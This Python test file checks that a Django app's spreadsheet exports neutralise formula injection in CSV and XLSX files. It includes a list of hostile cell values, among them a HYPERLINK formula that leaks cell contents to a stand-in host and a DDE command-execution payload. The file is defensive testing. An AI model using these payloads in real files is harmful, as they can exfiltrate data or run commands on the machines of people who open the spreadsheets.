"""The one writer of spreadsheets: formula injection neutralised (OWASP), numbers kept, files served right."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
import time_machine
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from core.spreadsheets import (
    CSV_CONTENT_TYPE,
    XLSX_CONTENT_TYPE,
    csv_text,
    safe_cell,
    spreadsheet_response,
    xlsx_bytes,
    xlsx_stream_bytes,
)
from evaluations import services as anev
from evaluations.models import ActionItem
from tests.builders import join
from tests.factories import ActivityFactory, ContributionFactory, EvaluationCycleFactory, ParticipantFactory

D = datetime.date
HOSTILE = [
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
    "@SUM(1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_would_run_is_quoted(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["Siti Rahmah", "Jorong Koto", "", "-5", "+6281234567890", "-12,5%", "1.500.000", "a=b", " =1+1"],
)
def test_plain_text_and_numbers_written_as_text_are_kept(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-5, -1.5, 0, 16_800, None, datetime.date(2025, 5, 2), True])
def test_non_text_values_are_kept(value):
    assert safe_cell(value) == value


def test_characters_an_xlsx_cannot_hold_are_dropped():
    assert safe_cell("Siti\x00 Rahmah\x07") == "Siti Rahmah"
    assert safe_cell("\x01=1+1") == "'=1+1"


def formula_cells(content: bytes) -> list[str]:
    """Every cell an opened workbook would compute or run, in every sheet."""
    found = []
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(("=", "@"))):
                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    return found


def test_xlsx_bytes_checks_every_cell_of_every_sheet():
    workbook = Workbook()
    workbook.active.append(["Nama", "Iuran"])
    workbook.active.append([HOSTILE[0], -16_800])
    workbook.create_sheet("Kedua")["B3"] = "@SUM(1)"
    assert workbook.active["A2"].data_type == "f"  # what openpyxl would have written
    content = xlsx_bytes(workbook)
    assert formula_cells(content) == []
    opened = load_workbook(io.BytesIO(content))
    assert opened.active["A2"].value == "'" + HOSTILE[0]
    assert opened.active["B2"].value == -16_800 and opened.active["B2"].data_type == "n"
    assert opened["Kedua"]["B3"].value == "'@SUM(1)"


def test_streamed_xlsx_is_safe_too():
    content = xlsx_stream_bytes(title="Baris", rows=[["Nama", "Jumlah"], *[[value, -5] for value in HOSTILE]])
    assert formula_cells(content) == []
    rows = list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
    assert rows[1] == ("'" + HOSTILE[0], -5)


def test_a_write_only_workbook_must_be_streamed():
    with pytest.raises(ValueError, match="xlsx_stream_bytes"):
        xlsx_bytes(Workbook(write_only=True))


def test_csv_text():
    text = csv_text([["Nama", "Iuran", "Catatan"], ["@SUM(1)", -16_800, None], ["-2+3", "-5", "=1+1"]])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows == [["Nama", "Iuran", "Catatan"], ["'@SUM(1)", "-16800", ""], ["'-2+3", "-5", "'=1+1"]]


def test_responses_carry_their_content_type():
    assert spreadsheet_response(b"x", filename="a.xlsx")["Content-Type"] == XLSX_CONTENT_TYPE
    response = spreadsheet_response("x", filename="a.csv")
    assert response["Content-Type"] == CSV_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="a.csv"'
    with pytest.raises(ValueError):
        spreadsheet_response(b"x", filename="a.pdf")


# --- every export path of the application, fed hostile names, jorongs, titles and actions --------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NAME, HAMLET, TITLE = HOSTILE[0], "@SUM(1)", "+cmd|' /C calc'!A0"


def runnable_fields(text: str) -> list[str]:
    """CSV fields a spreadsheet would run as a formula (numbers, even negative, are not)."""
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff")))
    return [field for row in rows for field in row if field.startswith(FORMULA_STARTS) and safe_cell(field) != field]


@pytest.fixture
def hostile_village(batang_barus):
    with time_machine.travel(datetime.datetime(2025, 6, 15, 10, tzinfo=datetime.UTC), tick=False):
        participant = ParticipantFactory(
            village=batang_barus, name=NAME, hamlet=HAMLET, phone="+6281234567890", enrolled_on=D(2025, 1, 5)
        )
        for month in (1, 2, 3, 4):  # menunggak in June: on the follow-up list
            ContributionFactory(participant=participant, month=D(2025, month, 1))
        ActivityFactory(village=batang_barus, title=TITLE, date=D(2025, 5, 2))
        yield batang_barus


@pytest.mark.parametrize("table", ["tindak-lanjut", "kegiatan"])
def test_village_exports(client, official, hostile_village, table):
    client.force_login(official)
    url = reverse("dashboard:village_export", kwargs={"code": hostile_village.code, "table": table, "fmt": "xlsx"})
    with time_machine.travel(datetime.datetime(2025, 6, 15, 10, tzinfo=datetime.UTC), tick=False):
        xlsx = client.get(url)
        text = client.get(url.replace(".xlsx", ".csv")).content.decode("utf-8")
    shown = [
        value for row in load_workbook(io.BytesIO(xlsx.content)).active.iter_rows(values_only=True) for value in row
    ]
    hostile = [NAME, HAMLET] if table == "tindak-lanjut" else [TITLE]
    assert all("'" + value in shown for value in hostile)  # there, and shown as text
    assert formula_cells(xlsx.content) == []
    fields = [field for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))) for field in row]
    assert all("'" + value in fields for value in hostile)
    assert runnable_fields(text) == []
    assert "+6281234567890" in shown or table == "kegiatan"  # a phone number is left as written


def test_dashboard_export_filters_in_the_heading(client, staff_user, batang_barus):
    client.force_login(staff_user)
    for fmt in ("xlsx", "csv"):
        url = reverse("dashboard:export", kwargs={"table": "peringkat", "fmt": fmt})
        response = client.get(url, {"q": "=HYPERLINK(1)"})
        if fmt == "xlsx":
            assert formula_cells(response.content) == []
        else:
            assert runnable_fields(response.content.decode("utf-8")) == []
            assert "'=HYPERLINK(1)" in response.content.decode("utf-8")


def test_anev_branch_summary(client, staff_user, batang_barus):
    join(batang_barus)
    cycle = EvaluationCycleFactory()
    anev.cycle_open(cycle=cycle, user=None)
    evaluation = cycle.evaluations.get(village=batang_barus)
    ActionItem.objects.create(
        evaluation=evaluation, action=NAME, pillar="pemahaman", owner="-2+3", due_date=D(2023, 6, 30)
    )
    client.force_login(staff_user)
    response = client.get(reverse("evaluations:cycle_summary_xlsx", kwargs={"pk": cycle.pk}))
    assert response.status_code == 200
    assert formula_cells(response.content) == []
    tracker = list(load_workbook(io.BytesIO(response.content))["Rencana aksi"].iter_rows(min_row=2, values_only=True))
    assert tracker[0][1:4] == ("'" + NAME, "Pemahaman", "'-2+3")
